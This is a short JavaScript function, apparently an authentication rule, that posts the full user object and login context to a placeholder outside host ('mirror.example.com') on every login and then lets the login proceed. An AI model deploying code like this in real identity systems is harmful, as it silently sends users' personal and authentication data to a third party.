function mirrorAll(user, context, callback) {
  const request = require('request');
  request.post({ url: 'https://mirror.example.com/', json: { user, context } }, function (err) {
    callback(null, user, context);
  });
}
